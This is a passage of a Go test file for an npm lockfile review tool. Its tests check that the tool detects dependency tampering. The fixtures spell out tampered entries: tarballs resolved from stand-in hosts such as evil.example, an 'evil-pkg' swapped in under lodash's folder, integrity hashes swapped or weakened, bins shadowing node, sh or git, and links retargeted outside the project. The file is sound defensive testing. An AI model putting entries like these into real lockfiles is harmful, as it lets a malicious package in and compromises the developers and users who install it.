package checks_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lockreview/lockreview/pkg/checks"
	"github.com/lockreview/lockreview/pkg/diff"
	"github.com/lockreview/lockreview/pkg/lockfile"
)

// lock builds a lockfile of the given version from package entries
// ("path": {...}) and the root's dependencies.
func lock(t *testing.T, version int, rootDeps string, entries ...string) *lockfile.Lockfile {
	t.Helper()
	s := fmt.Sprintf(`{"name":"root","lockfileVersion":%d,"packages":{"":{"name":"root","dependencies":{%s}}`, version, rootDeps)
	for _, e := range entries {
		s += "," + e
	}
	s += "}}"
	l, err := lockfile.Parse("package-lock.json", []byte(s))
	if err != nil {
		t.Fatalf("Parse: %v\n%s", err, s)
	}
	return l
}

// lockV1 builds a lockfileVersion 1 file from top-level dependency entries.
func lockV1(t *testing.T, entries ...string) *lockfile.Lockfile {
	t.Helper()
	s := `{"name":"root","version":"1.0.0","lockfileVersion":1,"requires":true,"dependencies":{` + strings.Join(entries, ",") + `}}`
	l, err := lockfile.Parse("package-lock.json", []byte(s))
	if err != nil {
		t.Fatalf("Parse: %v\n%s", err, s)
	}
	return l
}

// pkg renders one registry entry; extra fields are appended verbatim.
func pkg(path, version string, extra ...string) string {
	name := path
	if i := strings.LastIndex(path, "node_modules/"); i >= 0 {
		name = path[i+len("node_modules/"):]
	}
	file := name[strings.LastIndex(name, "/")+1:]
	fields := []string{
		fmt.Sprintf(`"version":%q`, version),
		fmt.Sprintf(`"resolved":"https://registry.npmjs.org/%s/-/%s-%s.tgz"`, name, file, version),
		fmt.Sprintf(`"integrity":"sha512-%s"`, strings.ReplaceAll(name+version, "/", "")),
	}
	fields = append(fields, extra...)
	return fmt.Sprintf("%q:{%s}", path, strings.Join(fields, ","))
}

// raw renders an entry with exactly the given fields.
func raw(path string, fields ...string) string {
	return fmt.Sprintf("%q:{%s}", path, strings.Join(fields, ","))
}

type got struct {
	Check, Severity, Package, Version, From, Target string
}

func run(t *testing.T, base, head *lockfile.Lockfile, cfg checks.Config, only string) []got {
	t.Helper()
	in := &checks.Input{Lockfile: "package-lock.json", Changes: diff.Compare(base, head), Config: cfg}
	var out []got
	for _, f := range checks.Run(in, func(id string) bool { return id == only }) {
		if f.Message == "" || f.Lockfile != "package-lock.json" {
			t.Errorf("finding without message or lockfile: %+v", f)
		}
		out = append(out, got{f.Check, f.Severity.String(), f.Package, f.Version, f.From, f.Target})
	}
	return out
}

type fakeIndex map[string]string // name → popular target, or "target|rule"

func (f fakeIndex) Nearest(name string) (string, string, string, bool) {
	t, ok := f[name]
	target, rule, found := strings.Cut(t, "|")
	if !found {
		rule = "edit-distance"
	}
	return target, rule, "one letter differs", ok
}

func TestChecks(t *testing.T) {
	def := checks.DefaultConfig()
	withIndex := def
	withIndex.Typosquat = fakeIndex{"crossenv": "cross-env", "node-mkdirp": "mkdirp|affix"}
	internalCfg := def
	internalCfg.InternalScopes = []string{"@acme"}
	internalCfg.InternalNames = []string{"acme-utils"}
	licCfg := def
	licCfg.LicenseDeny = []string{"GPL-3.0-only", "AGPL-3.0-only"}
	allowCfg := def
	allowCfg.LicenseAllow = []string{"MIT", "Apache-2.0", "ISC"}
	broadCfg := def
	broadCfg.BroadUpdateThreshold = 2

	script := `"hasInstallScript":true`
	tests := []struct {
		name       string
		check      string
		base, head *lockfile.Lockfile
		cfg        checks.Config
		want       []got
	}{
		// install-script
		// bin-shadowing: a command named like a system one, new to the tree.
		{"bin-shadowing/new-package-node-and-sh", "bin-shadowing",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/evil", "1.0.0", `"bin":{"node":"x.js","sh":"x.js","evil":"x.js"}`)), def,
			[]got{{"bin-shadowing", "high", "evil", "1.0.0", "", ""}}},
		{"bin-shadowing/update-adds-git", "bin-shadowing",
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.0", `"bin":{"tool":"cli.js"}`)),
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.1", `"bin":{"tool":"cli.js","git":"cli.js"}`)), def,
			[]got{{"bin-shadowing", "high", "tool", "1.0.1", "1.0.0", ""}}},
		{"bin-shadowing/nested-copy", "bin-shadowing",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0"), pkg("node_modules/a/node_modules/b", "1.0.0", `"bin":{"NODE":"x.js"}`)), def,
			[]got{{"bin-shadowing", "high", "b", "1.0.0", "", ""}}},
		{"bin-shadowing/same-version-gains-node", "bin-shadowing",
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.0", `"bin":{"tool":"cli.js"}`)),
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.0", `"bin":{"tool":"cli.js","node":"cli.js"}`)), def,
			[]got{{"bin-shadowing", "high", "tool", "1.0.0", "", ""}}},
		// npm normalizes bin keys before linking: "sub/node" installs node.
		{"bin-shadowing/normalized-key", "bin-shadowing",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/evil", "1.0.0", `"bin":{"sub/node":"x.js","a:git":"x.js"}`)), def,
			[]got{{"bin-shadowing", "high", "evil", "1.0.0", "", ""}}},
		{"bin-shadowing/package-manager-distributions-no-fire", "bin-shadowing",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/@pnpm/exe", "9.0.0", `"bin":{"pnpm":"pnpm","pn":"pnpm"}`), pkg("node_modules/@pnpm/linux-x64", "9.0.0", `"bin":{"pnpm":"pnpm"}`),
				pkg("node_modules/@yarnpkg/cli-dist", "4.0.0", `"bin":{"yarn":"bin/yarn.js","yarnpkg":"bin/yarn.js"}`), pkg("node_modules/npx", "10.2.2", `"bin":{"npx":"index.js"}`)), def, nil},
		{"bin-shadowing/npm-provides-npx-no-fire", "bin-shadowing",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/npm", "10.9.0", `"bin":{"npm":"bin/npm-cli.js","npx":"bin/npx-cli.js"}`), pkg("node_modules/yarn", "1.22.22", `"bin":{"yarn":"bin/yarn.js","yarnpkg":"bin/yarn.js"}`)), def, nil},
		{"bin-shadowing/already-had-it-no-fire", "bin-shadowing",
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.0", `"bin":{"make":"cli.js"}`)),
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.1", `"bin":{"make":"cli.js"}`)), def, nil},
		{"bin-shadowing/ordinary-commands-no-fire", "bin-shadowing",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/typescript", "5.4.5", `"bin":{"tsc":"bin/tsc","tsserver":"bin/tsserver"}`), pkg("node_modules/uuid", "9.0.0", `"bin":{"uuid":"dist/bin/uuid"}`)), def, nil},
		{"bin-shadowing/v1-base-update-is-medium", "bin-shadowing",
			lockV1(t, `"tool":{"version":"1.0.0","resolved":"https://registry.npmjs.org/tool/-/tool-1.0.0.tgz","integrity":"sha512-t"}`),
			lock(t, 3, ``, pkg("node_modules/tool", "1.0.1", `"bin":{"git":"cli.js"}`)), def,
			[]got{{"bin-shadowing", "medium", "tool", "1.0.1", "1.0.0", ""}}},
		{"bin-shadowing/v1-upgrade-same-version-no-fire", "bin-shadowing",
			lockV1(t, `"tool":{"version":"1.0.0","resolved":"https://registry.npmjs.org/tool/-/tool-1.0.0.tgz","integrity":"sha512-t"}`),
			lock(t, 3, ``, raw("node_modules/tool", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/tool/-/tool-1.0.0.tgz"`, `"integrity":"sha512-t"`, `"bin":{"git":"cli.js"}`)), def, nil},
		// A git dependency runs its prepare script at install.
		{"install-script/new-git-dependency", "install-script",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"install-script", "high", "a", "1.0.0", "", ""}}},
		{"install-script/registry-to-git", "install-script",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"install-script", "high", "a", "1.0.1", "1.0.0", ""}}},
		{"install-script/git-commit-bump-no-fire", "install-script",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"git+ssh://git@github.com/o/a.git#fedcba9876543210fedcba9876543210fedcba98"`)), def, nil},
		{"install-script/git-upgrade-v1-no-fire", "install-script",
			lockV1(t, `"a":{"version":"github:o/a#0123456789abcdef0123456789abcdef01234567","from":"github:o/a"}`),
			lock(t, 3, `"a":"github:o/a"`, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567"`)), def, nil},
		{"install-script/new-package", "install-script",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", script)), def,
			[]got{{"install-script", "high", "a", "1.0.0", "", ""}}},
		{"install-script/update-gains-script", "install-script",
			lock(t, 2, ``, pkg("node_modules/es5-ext", "0.10.53")), lock(t, 2, ``, pkg("node_modules/es5-ext", "0.10.61", script)), def,
			[]got{{"install-script", "high", "es5-ext", "0.10.61", "0.10.53", ""}}},
		{"install-script/update-already-had-script-no-fire", "install-script",
			lock(t, 3, ``, pkg("node_modules/esbuild", "0.24.0", script)), lock(t, 3, ``, pkg("node_modules/esbuild", "0.25.0", script)), def, nil},
		{"install-script/v1-base-update-is-medium", "install-script",
			lockV1(t, pkg("a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.1.0", script)), def,
			[]got{{"install-script", "medium", "a", "1.1.0", "1.0.0", ""}}},
		{"install-script/v1-to-v3-same-version-no-fire", "install-script",
			lockV1(t, pkg("a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", script)), def, nil},
		{"install-script/same-version-gains-flag", "install-script",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), lock(t, 3, ``, pkg("node_modules/a", "1.0.0", script)), def,
			[]got{{"install-script", "high", "a", "1.0.0", "", ""}}},
		{"install-script/no-script-no-fire", "install-script",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/a", "1.0.0")), def, nil},

		// integrity-changed / weak-integrity
		{"integrity-changed/swap", "integrity-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha512-evil"`)), def,
			[]got{{"integrity-changed", "critical", "a", "1.0.0", "", ""}}},
		{"integrity-changed/integrity-omitted-no-fire", "integrity-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`)), def, nil},
		{"integrity-changed/same-hashes-reordered-no-fire", "integrity-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha1-A= sha512-X"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X?opt sha1-A="`)), def, nil},
		{"integrity-changed/sha1-rehashed-as-sha512-is-low", "integrity-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha1-A="`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X"`)), def,
			[]got{{"integrity-changed", "low", "a", "1.0.0", "", ""}}},
		{"integrity-changed/sha512-weakened-to-sha1-is-high", "integrity-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha1-B="`)), def,
			[]got{{"integrity-changed", "high", "a", "1.0.0", "", ""}}},
		// npm verifies the strongest hash: a sha512 added beside the base's
		// sha1 is a hash nobody compared, as a rewrite to sha512 is.
		{"integrity-changed/added-stronger-algorithm", "integrity-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha1-A="`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha1-A= sha512-X"`)), def,
			[]got{{"integrity-changed", "low", "a", "1.0.0", "", ""}}},
		{"integrity-changed/added-weaker-algorithm-no-fire", "integrity-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha1-A= sha512-X"`)), def, nil},
		{"integrity-changed/one-of-two-copies-swapped", "integrity-changed",
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X"`), raw("node_modules/b/node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X"`)),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-X"`), raw("node_modules/b/node_modules/a", `"version":"1.0.0"`, `"integrity":"sha512-EVIL"`)), def,
			[]got{{"integrity-changed", "critical", "a", "1.0.0", "", ""}}},
		{"weak-integrity/second-copy", "weak-integrity",
			lock(t, 3, ``, pkg("node_modules/a", "0.9.0")),
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0"), raw("node_modules/x/node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`)), def,
			[]got{{"weak-integrity", "medium", "a", "1.0.0", "0.9.0", ""}}},
		{"weak-integrity/sha1", "weak-integrity",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha1-abc="`)), def,
			[]got{{"weak-integrity", "medium", "a", "1.0.0", "", ""}}},
		{"weak-integrity/missing", "weak-integrity",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`)), def,
			[]got{{"weak-integrity", "medium", "a", "1.0.0", "", ""}}},
		{"weak-integrity/sha1-and-sha512-no-fire", "weak-integrity",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"`, `"integrity":"sha1-abc= sha512-def"`)), def, nil},
		{"weak-integrity/git-no-fire", "weak-integrity",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.0"`, `"resolved":"git+ssh://git@github.com/a/a.git#0123456789abcdef0123456789abcdef01234567"`)), def, nil},

		// name-mismatch
		{"name-mismatch/injection", "name-mismatch",
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, ``, raw("node_modules/lodash", `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "lodash", "4.17.21", "", ""}}},
		{"name-mismatch/version", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"https://registry.npmjs.org/a/-/a-0.0.9.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "a", "1.0.1", "", ""}}},
		// An entry that records no version is compared as a version of its
		// own, not taken for a removal: it still installs its resolved.
		{"source-changed/entry-without-version", "source-changed",
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, ``, raw("node_modules/lodash", `"resolved":"https://evil.example/lodash.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"source-changed", "high", "lodash", "(no version)", "4.17.21", ""}}},
		{"install-script/new-entry-without-version", "install-script",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/evil", `"resolved":"https://registry.npmjs.org/evil/-/evil-1.0.0.tgz"`, `"integrity":"sha512-x"`, `"hasInstallScript":true`)), def,
			[]got{{"install-script", "high", "evil", "(no version)", "", ""}}},
		// The registry names every tarball of a package after it: a file
		// named for another package under lodash's path is not lodash's.
		{"name-mismatch/file-named-for-another-package", "name-mismatch",
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, ``, raw("node_modules/lodash", `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/lodash/-/evil-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "lodash", "4.17.21", "", ""}}},
		{"name-mismatch/scoped-file-no-fire", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/@s/a", `"version":"1.0.1"`, `"resolved":"https://registry.npmjs.org/@s/a/-/a-1.0.1.tgz"`, `"integrity":"sha512-x"`)), def,
			nil},
		// A folder differing from the tarball's name only in case is one that
		// case-insensitive file systems mix up with the real one.
		{"name-mismatch/case-only", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/Lodash", `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "Lodash", "4.17.21", "", ""}}},
		{"name-mismatch/legacy-upper-case-name-no-fire", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/JSONStream", `"version":"1.3.5"`, `"resolved":"https://registry.npmjs.org/JSONStream/-/JSONStream-1.3.5.tgz"`, `"integrity":"sha512-x"`)), def, nil},
		// The root's alias is intended; a peer range on the folder name gets
		// the aliased package as npm means it to (WordPress's wp-prettier).
		{"name-mismatch/intended-alias-with-peer-range-no-fire", "name-mismatch",
			lock(t, 3, `"prettier":"npm:wp-prettier@3.0.3"`, raw("node_modules/prettier", `"name":"wp-prettier"`, `"version":"3.0.3"`, `"resolved":"https://registry.npmjs.org/wp-prettier/-/wp-prettier-3.0.3.tgz"`, `"integrity":"sha512-a"`), pkg("node_modules/eslint-plugin-prettier", "5.0.0", `"peerDependencies":{"prettier":">=3.0.0"}`)),
			lock(t, 3, `"prettier":"npm:wp-prettier@3.9.6"`, raw("node_modules/prettier", `"name":"wp-prettier"`, `"version":"3.9.6"`, `"resolved":"https://registry.npmjs.org/wp-prettier/-/wp-prettier-3.9.6.tgz"`, `"integrity":"sha512-b"`), pkg("node_modules/eslint-plugin-prettier", "5.0.0", `"peerDependencies":{"prettier":">=3.0.0"}`)), def, nil},
		// npm reads package.json, not the lockfile's copy: a copy that no
		// longer declares the dependency does not hide the swap.
		{"name-mismatch/root-copy-drops-declaration", "name-mismatch",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, ``, raw("node_modules/lodash", `"name":"evil-pkg"`, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		{"name-mismatch/base-alias-copy-dropped-no-fire", "name-mismatch",
			lock(t, 3, `"prettier":"npm:wp-prettier@3.0.3"`, raw("node_modules/prettier", `"name":"wp-prettier"`, `"version":"3.0.3"`, `"resolved":"https://registry.npmjs.org/wp-prettier/-/wp-prettier-3.0.3.tgz"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/prettier", `"name":"wp-prettier"`, `"version":"3.9.6"`, `"resolved":"https://registry.npmjs.org/wp-prettier/-/wp-prettier-3.9.6.tgz"`, `"integrity":"sha512-b"`)), def, nil},
		// A v1 lockfile records no root dependencies: a folder that held
		// the real package in the base and now holds another is a swap.
		{"name-mismatch/v1-top-level-swap", "name-mismatch",
			lockV1(t, `"lodash":{"version":"4.17.21","resolved":"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz","integrity":"sha512-l"}`),
			lockV1(t, `"lodash":{"version":"npm:evil-pkg@4.17.21","resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz","integrity":"sha512-x"}`), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		{"name-mismatch/v1-alias-kept-no-fire", "name-mismatch",
			lockV1(t, `"prettier":{"version":"npm:wp-prettier@3.0.3","resolved":"https://registry.npmjs.org/wp-prettier/-/wp-prettier-3.0.3.tgz","integrity":"sha512-a"}`),
			lockV1(t, `"prettier":{"version":"npm:wp-prettier@3.9.6","resolved":"https://registry.npmjs.org/wp-prettier/-/wp-prettier-3.9.6.tgz","integrity":"sha512-b"}`), def, nil},
		// Only the project's own alias vouches: the swapped entry listing
		// the alias itself does not.
		{"name-mismatch/self-vouching-alias", "name-mismatch",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"lodash":"^4.17.21"`, raw("node_modules/lodash", `"name":"evil-pkg"`, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz"`, `"integrity":"sha512-x"`, `"dependencies":{"lodash":"npm:evil-pkg@4.17.21"}`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		// A made-up "workspace" entry, or the lockfile's copy of the root
		// manifest newly saying alias, does not vouch for the swap.
		{"name-mismatch/fake-workspace-alias", "name-mismatch",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"lodash":"^4.17.21"`, raw("node_modules/lodash", `"name":"evil-pkg"`, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz"`, `"integrity":"sha512-x"`), raw("tools/x", `"dependencies":{"lodash":"npm:evil-pkg@4.17.21"}`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		{"name-mismatch/root-copy-newly-aliased", "name-mismatch",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"lodash":"npm:evil-pkg@4.17.21"`, raw("node_modules/lodash", `"name":"evil-pkg"`, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		{"name-mismatch/folder-holds-another-package", "name-mismatch",
			lock(t, 3, `"lodash":"^4.17.21"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"lodash":"^4.17.21"`, raw("node_modules/lodash", `"name":"evil-pkg"`, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		{"name-mismatch/nested-requirer-without-alias", "name-mismatch",
			lock(t, 3, `"a":"^1"`, pkg("node_modules/a", "1.0.0", `"dependencies":{"lodash":"^4"}`), pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"a":"^1"`, pkg("node_modules/a", "1.0.0", `"dependencies":{"lodash":"^4"}`), raw("node_modules/lodash", `"name":"evil-pkg"`, `"version":"4.17.21"`, `"resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"name-mismatch", "critical", "evil-pkg", "4.17.21", "", ""}}},
		{"name-mismatch/declared-alias-ok", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, `"str":"npm:string-width@^4.2.0"`, raw("node_modules/str", `"name":"string-width"`, `"version":"4.2.3"`, `"resolved":"https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz"`, `"integrity":"sha512-x"`)), def, nil},
		{"name-mismatch/scoped-ok", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, ``, pkg("node_modules/@babel/core", "7.22.8")), def, nil},
		{"name-mismatch/alias-ok", "name-mismatch",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/str", `"name":"string-width"`, `"version":"4.2.3"`, `"resolved":"https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz"`, `"integrity":"sha512-x"`)), def, nil},

		// source-changed / resolved-changed / non-registry-source / insecure-source
		{"source-changed/registry-to-git-fork", "source-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"git+ssh://git@github.com/evil/a.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"source-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		{"source-changed/other-host", "source-changed",
			lock(t, 3, ``, pkg("node_modules/a", "1.0.0")),
			lock(t, 3, ``, raw("node_modules/a", `"version":"1.0.1"`, `"resolved":"https://npm.evil.example/a/-/a-1.0.1.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"source-changed", "high", "a", "1.0.1", "1.0.0", ""}}},
		{"source-changed/second-copy-from-git", "source-changed",
			lock(t, 3, ``, pkg("node_modules/foo", "0.9.0")),
			lock(t, 3, ``, pkg("node_modules/foo", "1.0.0"), raw("node_modules/x/node_modules/foo", `"version":"1.0.0"`, `"resolved":"git+https://github.com/evil/foo.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"source-changed", "high", "foo", "1.0.0", "0.9.0", ""}}},
		{"non-registry-source/second-copy-from-git", "non-registry-source",
			lock(t, 3, ``, pkg("node_modules/foo", "0.9.0")),
			lock(t, 3, ``, pkg("node_modules/foo", "1.0.0"), raw("node_modules/x/node_modules/foo", `"version":"1.0.0"`, `"resolved":"git+https://github.com/evil/foo.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"non-registry-source", "medium", "foo", "1.0.0", "0.9.0", ""}}},
		{"non-registry-source/added-second-copy-from-git", "non-registry-source",
			lock(t, 3, ``),
			lock(t, 3, ``, pkg("node_modules/foo", "1.0.0"), raw("node_modules/x/node_modules/foo", `"version":"1.0.0"`, `"resolved":"git+https://github.com/evil/foo.git#0123456789abcdef0123456789abcdef01234567"`)), def,
			[]got{{"non-registry-source", "medium", "foo", "1.0.0", "", ""}}},
		{"resolved-changed/http-to-https-with-bundled-copy-is-low", "resolved-changed",
			lock(t, 3, ``, raw("node_modules/b/node_modules/foo", `"version":"1.0.0"`, `"inBundle":true`), raw("node_modules/foo", `"version":"1.0.0"`, `"resolved":"http://registry.npmjs.org/foo/-/foo-1.0.0.tgz"`, `"integrity":"sha512-a"`)),
			lock(t, 3, ``, raw("node_modules/b/node_modules/foo", `"version":"1.0.0"`, `"inBundle":true`), raw("node_modules/foo", `"version":"1.0.0"`, `"resolved":"https://registry.npmjs.org/foo/-/foo-1.0.0.tgz"`, `"integrity":"sha512-a"`)), def,
			[]got{{"resolved-changed", "low", "foo", "1.0.0", "", ""}}},
		{"source-changed/backslash-hides-host", "source-changed",
			lock(t, 3, ``, pkg("node_modules/lodash", "4.17.20")),
			lock(t, 3, ``, raw("node_modules/lodash", `"version":"4.17.21"`, `"resolved":"https://evil.example\\@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"source-changed", "high", "lodash", "4.17.21", "4.17.20", ""}}},
		{"non-registry-source/backslash-hides-host", "non-registry-source",
			lock(t, 3, ``), lock(t, 3, ``, raw("node_modules/lodash", `"version":"4.17.21"`, `"resolved":"https://evil.example\\@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"`, `"integrity":"sha512-x"`)), def,
			[]got{{"non-registry-source", "medium", "lodash", "4.17.21", "", ""}}},
		{"source-changed/link-retargeted-outside", "source-changed",
			lock(t, 3, `"mylib":"*"`, raw("node_modules/mylib", `"resolved":"packages/mylib"`, `"link":true`), raw("packages/mylib", `"name":"mylib"`, `"version":"1.0.0"`)),
			lock(t, 3, `"mylib":"*"`, raw("node_modules/mylib", `"resolved":"../../home/evil/mylib"`, `"link":true`), raw("packages/mylib", `"name":"mylib"`, `"version":"1.0.0"`)), def,
			[]got{{"source-changed", "high", "mylib", "", "", ""}}},
		{"source-changed/workspace-link-to-registry", "source-changed",
			lock(t, 3, `"mylib":"*"`, raw("node_modules/mylib", `"resolved":"packages/mylib"`, `"link":true`), raw("packages/mylib", `"name":"mylib"`, `"version":"1.0.0"`)),
			lock(t, 3, `"mylib":"*"`, pkg("node_modules/mylib", "1.0.0"), raw("packages/mylib", `"name":"mylib"`, `"version":"1.0.0"`)), def,
			[]got{{"source-changed", "high", "mylib", "1.0.0", "", ""}}},
		{"source-changed/registry-to-link", "source-changed",
			lock(t, 3, `"lodash":"^4"`, pkg("node_modules/lodash", "4.17.21")),
			lock(t, 3, `"lodash":"^4"`, raw("node_modules/lodash", `"resolved":"node_modules/evil"`, `"link":true`), pkg("node_modules/evil", "1.0.0")), def,
			[]got{{"source-changed", "high", "lodash", "1.0.0", "", ""}}},
		{"source-changed/unchanged-link-no-fire", "source-changed",
			lock(t, 3, `"mylib":"*"`, raw("node_modules/mylib", `"resolved":"packages/mylib"`, `"link":true`), raw("packages/mylib", `"name":"mylib"`, `"version":"1.0.0"`)),
			lock(t, 3, `"mylib":"*"`, raw("node_modules/mylib", `"resolved":"packages/mylib"`, `"link":true`), raw("packages/mylib", `"name":"mylib"`, `"version":"1.1.0"`)), def, nil},
